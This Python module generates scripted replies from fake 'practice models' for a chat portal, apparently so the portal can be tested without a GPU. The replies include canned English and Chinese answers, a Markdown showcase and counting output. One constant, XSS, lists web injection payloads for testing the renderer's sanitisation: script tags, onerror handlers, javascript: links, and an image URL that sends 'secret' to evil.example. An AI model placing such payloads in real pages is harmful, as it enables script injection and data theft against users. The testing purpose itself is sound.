"""What the practice models say: pieces of text, and of thinking before it."""

import re
from collections.abc import Mapping, Sequence
from dataclasses import dataclass

from .measures import measured_text

HAN = re.compile("[\u3400-\u9fff]")
PIECE = re.compile(r"\s*[A-Za-z0-9']+|\s*[^\sA-Za-z0-9]|\s+")
WHOLE_NUMBER = re.compile(r"\d+")
COUNT_LIMIT = 100_000
FAST_COUNT = 2000
FLOOD_LIMIT, FLOOD_PIECE = 2_000_000, 50_000
PROBE = re.compile(r"^Count from 1 to 9\b")

ENGLISH = """You asked: “{question}”.

I am a **practice model**, not a language model: I know nothing, and I answer everybody with the same few sentences, \
so that you can try the portal without a GPU.

- Reload this page while I write: nothing is lost.
- Press Stop: what I have said so far stays.
- Ask again, edit your question, or let me answer once more.

When you connect an Ollama host, real models take my place."""

CHINESE = """你问的是：“{question}”。

我是**练习模型**，不是语言模型：我什么都不知道，对每个人都说同样的几句话，让你在没有 GPU 的情况下试用本站。

- 在我写的时候刷新页面：什么都不会丢失。
- 按“停止”：已经写出的内容会保留。
- 可以再问一次、修改问题，或让我重新回答。

连接 Ollama 主机之后，真正的模型会代替我。"""

MARKDOWN = """# Everything Markdown can do

A practice model wrote this; it is *not* a language model. **Bold**, ~~struck~~, `code`, a [link](https://example.com/a).

1. First
   - nested **one**
   - nested two

     with a paragraph
2. Second
   1. deeper
   2. still deeper

- [x] done
- [ ] to do

| Name | Price | Share |
|:-----|------:|:-----:|
| Tea | 4.50 | 60 % |
| 茶 | 12.00 | 40 % |

```python
def brew(leaves: int, *, minutes: float = 3.0) -> str:
    # 中文注释
    return f"{leaves} leaves, {minutes} minutes"
```

> A quote with `code`
> and a second line.

Inline math $a^2 + b^2 = c^2$ and \\(x_1\\), and a formula of its own:

$$
\\sum_{i=1}^{n} i = \\frac{n(n+1)}{2}
$$

```sql
select name, sum(price) from teas group by name order by 2 desc;
```

**注意：**这是一段中文，价格$5，公式$x^2$，参见https://example.com/b，然后继续。

A footnote[^1] closes the page.

---

[^1]: Leaves first, then water.
"""

THOUGHT = """The question is “{question}”. I am a practice model, so I only pretend to think.

First I look at the question, then at the ceiling, and then I write what I always write."""

XSS = """<script>alert(1)</script> <img src=x onerror=alert(1)> [click](javascript:alert(1))

<div hx-get="/settings/" hx-trigger="load">x</div> <iframe src="//evil.example"></iframe>

![pixel](https://evil.example/p.png?q=secret) [data](data:text/html,<script>alert(1)</script>)

<style>body{display:none}</style> <a href="vbscript:x" style="position:fixed">v</a> <ws-connect>

```"><img src=x onerror=alert(1)>
code
```

<base href="//evil.example"><meta http-equiv=refresh content=0> <svg onload=alert(1)>
"""


@dataclass(frozen=True, slots=True)
class Script:
    """What will be said."""

    text: list[str]
    thinking: list[str]


def script_for(model: str, messages: Sequence[Mapping[str, object]], *, think: object, continues: bool) -> Script:
    """The pieces of the answer; of one that goes on, those after what was said already."""
    said = _said_already(messages)
    question = _question(messages)
    if model.startswith("measure-"):
        kind = model.removeprefix("measure-").partition(":")[0]
        return Script(measured_text(kind, _number_in(question)), [])
    text = _probe(said) if PROBE.match(question) and said and continues else _text(model, question)
    if said and continues:
        # Only what is new: the script goes on where the text given stops.
        text = text.removeprefix(said) if text.startswith(said) else f" (went on) {text}"
    thinking = THOUGHT.format(question=question) if "thinker" in model and think is not False and not said else ""
    return Script(_in_floods(text) if model.startswith("fault-flood") else pieces(text), pieces(thinking))


def pieces(text: str) -> list[str]:
    """Words and signs, about as a tokenizer cuts."""
    return PIECE.findall(text)


def _in_floods(text: str) -> list[str]:
    """A lot at a time."""
    return [text[at : at + FLOOD_PIECE] for at in range(0, len(text), FLOOD_PIECE)]


def _count_to(last: int) -> str:
    return " ".join(str(value) for value in range(1, last + 1))


def _probe(said: str) -> str:
    """The count that the portal lets models continue, to see whether they do."""
    return said + "".join(f" {number}," for number in range(said.count(",") + 1, 9)) + " 9"


def _text(model: str, question: str) -> str:
    if model.startswith("fault-fast"):
        return _count_to(FAST_COUNT)
    if "counting" in model or "no-prefill" in model or "slow-load" in model:
        return _count_to(_number_in(question))
    if model.startswith("fault-flood"):
        return _count_to(_number_in(question, at_most=FLOOD_LIMIT))
    if "markdown" in model:
        return MARKDOWN
    if "xss" in model:
        return XSS
    return (CHINESE if HAN.search(question) else ENGLISH).format(question=question[:200])


def _number_in(question: str, *, at_most: int = COUNT_LIMIT) -> int:
    number = WHOLE_NUMBER.search(question)
    return min(int(number[0]), at_most) if number else 20


def _question(messages: Sequence[Mapping[str, object]]) -> str:
    asked = [message for message in messages if message.get("role") == "user"]
    return str(asked[-1].get("content", "")) if asked else ""


def _said_already(messages: Sequence[Mapping[str, object]]) -> str:
    last = messages[-1] if messages else {}
    return str(last.get("content", "")) if last.get("role") == "assistant" else ""
